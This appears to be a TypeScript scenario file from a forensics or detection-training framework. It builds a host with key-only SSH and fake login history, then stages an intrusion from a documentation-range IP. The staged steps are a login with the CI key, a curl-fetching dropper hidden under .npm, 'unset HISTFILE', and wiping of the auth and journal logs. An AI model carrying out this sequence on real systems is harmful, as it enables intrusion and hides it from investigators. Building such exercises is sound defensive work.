// No record of the login is left but wtmp; passwords are not accepted here, so nobody guessed one.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.account('deploy')
  const key = dress.key('ci', 'ci@build.example.com')
  dress.trust('deploy', key)
  dress.sshd('PasswordAuthentication no', 'KbdInteractiveAuthentication no')
  dress.logins({ days: 25, guesses: 60, friends: [{ user: 'deploy', address: '198.51.100.30', key: key.fingerprint, hours: [2, 11, 17] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/home/deploy/.npm/_x/helper', fetch: 'curl' })
  stage.mark('occurrence')
  await stage.session('203.0.113.78', 'deploy', { key: 'ci' }, [line, 'unset HISTFILE'])
  await wipe(stage, ['auth', 'journal'])
}
